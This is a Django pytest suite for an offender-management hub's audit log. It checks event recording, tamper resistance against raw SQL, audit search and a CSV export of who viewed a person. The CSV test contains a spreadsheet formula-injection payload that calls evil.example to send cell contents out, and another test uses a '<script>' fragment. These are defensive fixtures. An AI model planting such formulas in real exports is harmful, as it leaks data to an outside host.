"""The audit log: every read, change, export, search and sign-in leaves the right event; nobody can
change or delete an event (not the application, not raw SQL); information governance can search
it and export who viewed a person."""

from __future__ import annotations

import csv
import datetime
import io
import uuid

import pytest
from django.db import DatabaseError, connection, transaction
from django.utils import timezone

from iomhub.access import audit
from iomhub.access.models import AuditEvent, Role
from iomhub.people.models import Person
from tests.access.support import all_routes, concrete, events_since, last_event_id
from tests.factories import PASSWORD, UserFactory

# ---- what is recorded ---------------------------------------------------------------------------


def test_viewing_a_person_records_who_which_person_where_from_and_the_request(client, partnership):
    officer = partnership.users[Role.POLICE_IOM_OFFICER]
    person = partnership.ordinary
    client.force_login(officer)
    request_id = str(uuid.uuid4())
    since = last_event_id()
    response = client.get(f"/people/{person.pk}/", REMOTE_ADDR="203.0.113.9", headers={"X-Request-ID": request_id})
    assert response.status_code == 200
    [event] = events_since(since)
    assert event.action == "view"
    assert event.actor == officer
    assert event.actor_username == "police-iom-officer"
    assert event.person_id == person.pk
    assert event.object_type == "person"
    assert event.ip_address == "203.0.113.9"
    assert event.request_id == request_id == response["X-Request-ID"]
    assert event.route == f"/people/{person.pk}/"
    assert abs(event.occurred_at - timezone.now()) < datetime.timedelta(minutes=1)


def test_a_request_without_an_id_is_given_one_that_the_event_and_response_share(client, partnership):
    client.force_login(partnership.users[Role.PROBATION_OFFICER])
    since = last_event_id()
    response = client.get(f"/api/v1/people/{partnership.restricted.pk}")
    [event] = events_since(since)
    assert event.action == "view"
    assert event.request_id
    assert event.request_id == response["X-Request-ID"]
    other = client.get(f"/api/v1/people/{partnership.restricted.pk}")
    assert other["X-Request-ID"] != response["X-Request-ID"]


def _details_form(person: Person, **changes: str) -> dict[str, str]:
    data = {
        "first_name": person.first_name,
        "middle_names": person.middle_names,
        "last_name": person.last_name,
        "date_of_birth_day": str(person.date_of_birth.day),
        "date_of_birth_month": str(person.date_of_birth.month),
        "date_of_birth_year": str(person.date_of_birth.year),
        "sex": person.sex,
        "gender_identity": person.gender_identity,
        "pnc_id": person.pnc_id,
        "cro_number": person.cro_number,
        "urn": person.urn,
        "ni_number": person.ni_number,
        "prison_number": person.prison_number,
        "crn": person.crn,
        "nhs_number": person.nhs_number,
        "email": person.email,
        "ethnicity": person.ethnicity,
        "version": str(person.version),
    }
    data.update(changes)
    return data


def test_changing_a_field_on_the_edit_page_records_before_and_after_of_exactly_that_field(client, partnership):
    officer = partnership.users[Role.PROBATION_OFFICER]
    person = Person.objects.get(pk=partnership.ordinary.pk)
    client.force_login(officer)
    since = last_event_id()
    response = client.post(f"/people/{person.pk}/edit/", _details_form(person, middle_names="Lee", ni_number="jc 12 34 56 c"))
    assert response.status_code == 302, response.content.decode()[:2000]
    [change] = events_since(since, action="change")
    assert change.actor == officer
    assert change.person_id == person.pk
    assert change.changes == {
        "middle_names": {"before": "", "after": "Lee"},
        "ni_number": {"before": "", "after": "JC123456C"},
    }
    assert Person.objects.get(pk=person.pk).middle_names == "Lee"


def test_saving_the_edit_page_unchanged_records_no_change(client, partnership):
    person = Person.objects.get(pk=partnership.ordinary.pk)
    client.force_login(partnership.users[Role.PROBATION_OFFICER])
    since = last_event_id()
    assert client.post(f"/people/{person.pk}/edit/", _details_form(person)).status_code == 302
    assert not events_since(since, action="change")


def test_a_change_through_the_api_records_before_and_after(client, partnership):
    person = partnership.housing_case
    client.force_login(partnership.users[Role.COORDINATOR])
    since = last_event_id()
    response = client.patch(f"/api/v1/people/{person.pk}", {"last_name": "Sampson"}, content_type="application/json")
    assert response.status_code == 200
    [change] = events_since(since, action="change")
    assert change.changes == {"last_name": {"before": "Sample", "after": "Sampson"}}


def test_exporting_records_an_export(client, partnership):
    person = partnership.ordinary
    user = partnership.users[Role.IG_LEAD]
    client.force_login(user)
    since = last_event_id()
    response = client.get(f"/people/{person.pk}/export.json")
    assert response.status_code == 200
    assert response.json()["id"] == person.pk
    assert [(e.action, e.actor, e.person_id) for e in events_since(since)] == [("export", user, person.pk)]


def test_searching_records_the_query_and_what_was_found(client, partnership):
    user = partnership.users[Role.SUBSTANCE_MISUSE]
    client.force_login(user)
    since = last_event_id()
    response = client.get("/people/", {"q": "jordan"})
    assert response.status_code == 200
    event, listed = events_since(since)
    assert event.action == "search"
    assert event.actor == user
    assert event.changes["query"] == "jordan"
    assert event.changes["results"] == [partnership.ordinary.pk]
    # ... and each person shown, against that person (issue 9 finding 16).
    assert (listed.action, listed.actor, listed.person_id) == ("listed", user, partnership.ordinary.pk)


def test_a_refusal_is_recorded_with_its_reason(client, partnership):
    user = partnership.users[Role.EVALUATOR]
    client.force_login(user)
    since = last_event_id()
    assert client.get(f"/people/{partnership.ordinary.pk}/").status_code == 403
    [event] = events_since(since)
    assert (event.action, event.actor, event.outcome) == ("denied", user, "denied")
    assert event.reason.startswith("person.view")


def test_signing_in_failing_to_and_signing_out_are_recorded(client, partnership):
    user = partnership.users[Role.CHAIR]
    since = last_event_id()
    client.post("/sign-in/", {"username": "chair", "password": "not the password"}, REMOTE_ADDR="198.51.100.7")
    client.post("/sign-in/", {"username": "chair", "password": PASSWORD}, REMOTE_ADDR="198.51.100.7")
    client.post("/sign-out/", REMOTE_ADDR="198.51.100.7")
    events = events_since(since)
    assert [(e.action, e.actor_username, e.outcome) for e in events] == [
        ("sign-in-failed", "chair", "failed"),
        ("password-ok", "chair", "ok"),
        ("sign-in", "chair", "ok"),
        ("sign-out", "chair", "ok"),
    ]
    assert events[0].actor is None
    assert events[1].actor == events[2].actor == events[3].actor == user
    assert {e.ip_address for e in events} == {"198.51.100.7"}


# ---- nobody can change or delete it -------------------------------------------------------------


@pytest.fixture
def event(db):
    return audit.record(actor=None, username="someone", action="view", object_type="person", object_id=1, person_id=1)


def _unchanged(event: AuditEvent) -> None:
    fresh = AuditEvent.objects.get(pk=event.pk)
    assert (fresh.action, fresh.actor_username, fresh.person_id, fresh.reason) == ("view", "someone", 1, "")


def test_an_event_cannot_be_saved_again(event):
    event.reason = "tampered"
    with pytest.raises(PermissionError):
        event.save()
    _unchanged(event)


def test_an_event_cannot_be_deleted(event):
    with pytest.raises(PermissionError):
        event.delete()
    _unchanged(event)


def test_events_cannot_be_updated_or_deleted_in_bulk(event):
    with pytest.raises(PermissionError):
        AuditEvent.objects.filter(pk=event.pk).update(reason="tampered")
    with pytest.raises(PermissionError):
        AuditEvent.objects.all().delete()
    event.reason = "tampered"
    with pytest.raises(PermissionError), transaction.atomic():
        AuditEvent.objects.bulk_update([event], ["reason"])
    _unchanged(event)


def test_the_database_refuses_an_update_by_any_other_route(event):
    """Managers other than ``objects`` skip the queryset guard; the trigger still refuses."""
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent._base_manager.filter(pk=event.pk).update(reason="tampered")
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent._base_manager.filter(pk=event.pk)._raw_delete(connection.alias)
    _unchanged(event)


def test_the_database_refuses_raw_sql_update_and_delete(event):
    table = AuditEvent._meta.db_table
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(f"UPDATE {table} SET reason = %s WHERE id = %s", ["tampered", event.pk])  # noqa: S608
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(f"DELETE FROM {table} WHERE id = %s", [event.pk])  # noqa: S608
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(f"DELETE FROM {table}")  # noqa: S608
    _unchanged(event)
    # Appending is still allowed.
    before = AuditEvent.objects.count()
    audit.record(actor=None, username="someone-else", action="search")
    assert AuditEvent.objects.count() == before + 1


def test_deleting_a_user_keeps_their_audit_trail(partnership):
    leaver = UserFactory(username="leaver", roles=[])
    audit.record(actor=leaver, action="sign-in", object_type="user", object_id=leaver.pk)
    leaver.delete()
    assert AuditEvent.objects.filter(actor_username="leaver", action="sign-in").count() == 1


UNSAFE = ("post", "put", "patch", "delete")


def _snapshot() -> dict[int, tuple]:
    return {row["id"]: tuple(sorted(row.items())) for row in AuditEvent.objects.values()}


def test_no_route_edits_or_deletes_the_audit_log(client, partnership):
    """Every route, hit with every unsafe method by the roles closest to the log (IG lead and
    administrator), leaves every existing event exactly as it was."""
    for person in partnership.people:
        audit.record(actor=partnership.users[Role.CHAIR], action="view", object_type="person", object_id=person.pk, person_id=person.pk)
    before = _snapshot()
    assert before
    values = {
        "person_id": partnership.ordinary.pk,
        "tab": "plan",
        "organisation_id": partnership.police.pk,
        "user_id": partnership.users[Role.CHAIR].pk,
        "referral_id": 1,  # referrals and registrations need not exist: nothing may touch the log
        "registration_id": 1,
        "step": "person",
        "kind": "arrests",  # justice routes (issue 4): sentences and warrants need not exist either
        "action": "override",
        "sentence_id": 1,
        "warrant_id": 1,
        "involvement_id": 1,  # casework routes (issue 6): nothing need exist
        "action_id": 1,
        "entry_id": 1,
        "transfer_id": 1,  # cohort transfer routes
        "transfer_step": "spoc",
        "team_id": 1,  # the area's team pages
        "meeting_id": 1,  # the meeting pages
        "token_id": 1,  # API tokens and set-up links (ADR 0012)
        "secret": "no-such-link",
        "run_id": 1,  # feed imports and their review queue (ADR 0014)
        "import_run_id": 1,  # feed imports over the API (ADR 0041)
        "review_id": 1,
        "link_review_id": 1,  # the review queue over the API (issue 11 §3)
        "screening_id": 1,  # the health instruments (issue 12 part 1): nothing need exist
        "checklist_id": 1,
        "order_id": 1,  # interventions and documents (issue 12 part 2)
        "test_id": 1,
        "document_id": 1,
        "rule_id": 1,  # retention rules and subject access requests (issue 13)
        "sar_id": 1,
        "part": "minutes",  # the meeting's record (issue 18)
        "notification_id": 1,  # the outbox's send again (issue 11)
        "return_id": 1,  # budget returns over the API (issue 16)
    }
    event_id = max(before)
    for route in all_routes():
        url = concrete(route.route, **values)
        for key in (Role.IG_LEAD, Role.SYSTEM_ADMIN):
            for method in UNSAFE:
                client.force_login(partnership.users[key])  # sign-out would end the session
                body = {"id": event_id, "reason": "tampered", "action": "search", "person": partnership.ordinary.pk}
                getattr(client, method)(url, body, content_type="application/json")
    after = _snapshot()
    assert {k: v for k, v in after.items() if k in before} == before


@pytest.mark.parametrize("route", [r for r in all_routes() if "audit" in r.route])
def test_the_audit_pages_accept_only_get(client, partnership, route):
    client.force_login(partnership.users[Role.IG_LEAD])
    url = concrete(route.route, person_id=partnership.ordinary.pk)
    assert client.get(url).status_code == 200
    for method in UNSAFE:
        assert getattr(client, method)(url).status_code == 405, (method, url)


def test_the_api_has_no_audit_endpoint():
    assert not [r.route for r in all_routes() if r.route.startswith("api/") and "audit" in r.route]


# ---- information governance searches it ---------------------------------------------------------


def _at(day: datetime.date, **fields) -> AuditEvent:
    moment = timezone.make_aware(datetime.datetime.combine(day, datetime.time(12, 0)))
    return AuditEvent.objects.create(occurred_at=moment, **fields)


@pytest.fixture
def history(partnership):
    ordinary, housing = partnership.ordinary.pk, partnership.housing_case.pk
    return {
        "a": _at(datetime.date(2024, 3, 1), actor_username="police-iom-officer", action="view", person_id=ordinary),
        "b": _at(datetime.date(2024, 3, 15), actor_username="housing-worker", action="view", person_id=housing),
        "c": _at(datetime.date(2024, 4, 2), actor_username="police-iom-officer", action="export", person_id=housing),
        "d": _at(datetime.date(2024, 5, 20), actor_username="Chair", action="break-glass", person_id=ordinary, reason="urgent"),
    }


def _found(client, history, **query) -> set[str]:
    response = client.get("/audit/", query)
    assert response.status_code == 200
    ids = {e.pk for e in response.context["page"].object_list}
    return {name for name, event in history.items() if event.pk in ids}


def test_the_ig_lead_filters_by_person_user_action_and_dates(client, partnership, history):
    client.force_login(partnership.users[Role.IG_LEAD])
    assert _found(client, history, person=partnership.ordinary.pk) == {"a", "d"}
    assert _found(client, history, username="POLICE-IOM-OFFICER ") == {"a", "c"}
    assert _found(client, history, action="view") == {"a", "b"}
    dates = {"date_from_day": "15", "date_from_month": "3", "date_from_year": "2024"}
    dates |= {"date_to_day": "2", "date_to_month": "4", "date_to_year": "2024"}
    assert _found(client, history, **dates) == {"b", "c"}  # both ends inclusive
    assert _found(client, history, person=partnership.housing_case.pk, action="export", **dates) == {"c"}
    assert _found(client, history) == set(history)


def test_searching_the_audit_log_is_itself_audited(client, partnership, history):
    user = partnership.users[Role.IG_LEAD]
    client.force_login(user)
    since = last_event_id()
    client.get("/audit/", {"person": partnership.ordinary.pk, "action": "view"})
    [event] = events_since(since)
    assert (event.action, event.actor, event.object_type) == ("search", user, "audit")
    assert event.changes == {"person": partnership.ordinary.pk, "action": "view"}


def test_an_impossible_date_in_the_audit_search_is_a_field_error(client, partnership, history):
    client.force_login(partnership.users[Role.IG_LEAD])
    response = client.get("/audit/", {"date_from_day": "31", "date_from_month": "2", "date_from_year": "2024"})
    assert response.status_code == 200
    page = response.content.decode()
    assert "govuk-error-summary" in page
    assert "From date must be a real date" in page
    assert response.context["form"].errors["date_from"] == ["From date must be a real date"]


def test_a_date_range_the_wrong_way_round_is_a_field_error(client, partnership, history):
    client.force_login(partnership.users[Role.IG_LEAD])
    query = {"date_from_day": "2", "date_from_month": "4", "date_from_year": "2024"}
    query |= {"date_to_day": "1", "date_to_month": "3", "date_to_year": "2024"}
    response = client.get("/audit/", query)
    assert "date_to" in response.context["form"].errors


# ---- who viewed a person ------------------------------------------------------------------------


def _csv_rows(response) -> list[dict[str, str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_viewers_csv_lists_everyone_who_viewed_a_person(client, partnership):
    person = partnership.housing_case
    for key in (Role.POLICE_IOM_OFFICER, "housing-worker", Role.PROBATION_OFFICER):
        client.force_login(partnership.users[key])
        assert client.get(f"/people/{person.pk}/").status_code == 200
    client.force_login(partnership.users[Role.COORDINATOR])
    client.get(f"/people/{person.pk}/export.json")
    client.get(f"/people/{partnership.ordinary.pk}/")  # someone else's record: not listed
    client.get("/people/", {"q": "Casey"})  # a search shows the person in its results: listed against them

    ig = partnership.users[Role.IG_LEAD]
    client.force_login(ig)
    since = last_event_id()
    response = client.get(f"/audit/people/{person.pk}/viewers.csv")
    assert response.status_code == 200
    assert f"viewers-of-person-{person.pk}.csv" in response["Content-Disposition"]
    rows = _csv_rows(response)
    assert [(r["username"], r["action"]) for r in rows] == [
        ("police-iom-officer", "view"),
        ("housing-worker", "view"),
        ("probation-officer", "view"),
        ("iom-coordinator", "export"),
        ("iom-coordinator", "listed"),
    ]
    assert all(r["ip_address"] == "127.0.0.1" for r in rows)
    [event] = events_since(since)
    assert (event.action, event.actor, event.person_id, event.changes) == ("export", ig, person.pk, {"rows": 5})


def test_the_viewers_csv_neutralises_formula_injection(client, partnership):
    person = partnership.restricted
    chair = partnership.users[Role.CHAIR]
    client.force_login(chair)
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
    assert client.post(f"/people/{person.pk}/break-glass/", {"reason": hostile}).status_code == 302
    odd = UserFactory(username="-2+3", organisation=partnership.police, roles=[Role.POLICE_IOM_OFFICER])
    from iomhub.access.models import PersonAccessGrant

    PersonAccessGrant.objects.create(person=person, user=odd)
    client.force_login(odd)
    assert client.get(f"/people/{person.pk}/").status_code == 200

    client.force_login(partnership.users[Role.IG_LEAD])
    rows = _csv_rows(client.get(f"/audit/people/{person.pk}/viewers.csv"))
    reasons = [r["reason"] for r in rows if r["action"] == "break-glass"]
    assert reasons == ["'" + hostile]
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    assert "'-2+3" in [r["username"] for r in rows]


def test_an_invalid_audit_filter_shows_the_error_and_no_entries(client, partnership):
    client.force_login(partnership.users["ig-lead"])
    client.get(f"/people/{partnership.ordinary.pk}/")  # IG lead's own read leaves an entry
    page = client.get("/audit/", {"date_from_day": "31", "date_from_month": "2", "date_from_year": "2026"})
    body = page.content.decode()
    assert "From date must be a real date" in body
    assert page.context["page"].paginator.count == 0


@pytest.mark.django_db
def test_an_over_long_object_id_is_cut_to_the_column_and_the_event_still_written(partnership):
    """An id from a URL or a file can be anything: every way of writing an event keeps the first
    64 characters rather than failing (and losing the event) on PostgreSQL's column limit."""
    user = partnership.users[Role.POLICE_IOM_OFFICER]
    hostile = "9" * 40 + "<script>" + "x" * 60
    before = last_event_id()
    audit.record(actor=user, action="view", object_type="meeting", object_id=hostile)
    audit.record_many(actor=user, entries=[{"action": "create", "object_type": "arrest", "object_id": hostile}])
    audit.record_shown(actor=user, person_ids=[partnership.ordinary.pk], object_type="person", object_id=hostile)
    written = events_since(before)
    ids = sorted(e.object_id for e in written if e.action != "listed")
    assert ids == [hostile[:64]] * 3
    assert audit.record(actor=user, action="view", object_type="person", object_id=None).object_id == ""
    assert audit.record(actor=user, action="view", object_type="person", object_id=12).object_id == "12"
